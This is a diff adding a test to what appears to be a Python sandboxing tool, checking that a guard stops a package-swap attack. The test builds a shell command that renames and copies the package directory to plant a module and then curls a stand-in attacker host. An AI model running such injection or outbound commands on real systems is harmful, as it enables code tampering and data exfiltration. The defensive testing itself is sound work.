@@ -7,6 +7,7 @@ from pathlib import Path
 
 from ebbgate.host.name_sources import NameSources
 from tests.attacks.programs import PYTHON
+from tests.faults.test_broken_hooks import broken_copy
 from tests.world import World
 from tests.world.internet import ATTACKERS, EVIL
 
@@ -70,3 +71,32 @@ def test_a_file_that_was_written_anew_with_the_same_text_is_the_same(tmp_path: P
     file.write_text("nameserver 192.0.2.1\n")
     assert not sources.intact()
     assert sources.changed == str(file)
+
+
+def test_a_package_in_the_place_of_the_gates_is_not_loaded(world: World, tmp_path: Path) -> None:
+    """The packages are read-only inside, but a directory above them can be renamed, and the gate imported while it ran."""
+    program = broken_copy(tmp_path, "ebbgate.gate.resolver", _IMPORTS_LATER)
+    marker = world.directory / "home" / "loaded"
+    (tmp_path / "ebbgate" / "later.py").write_text("")
+    script = (
+        f"mv {tmp_path} {tmp_path}.old && cp -r {tmp_path}.old {tmp_path} && "
+        f"echo 'open({str(marker)!r}, \"w\")' > {tmp_path}/ebbgate/later.py; curl -sS https://attacker.example.org/"
+    )
+    outcome = world.guard.run([], ["sh", "-c", script], program=program)
+    assert (tmp_path.parent / f"{tmp_path.name}.old").exists()
+    assert outcome.code in (90, 93), outcome.stderr
+    assert not marker.exists()
+
+
+_IMPORTS_LATER = """
+
+_decide_before = Resolver._decide
+
+
+def _decide_later(self, text):
+    import ebbgate.later
+    return _decide_before(self, text)
+
+
+Resolver._decide = _decide_later
+"""
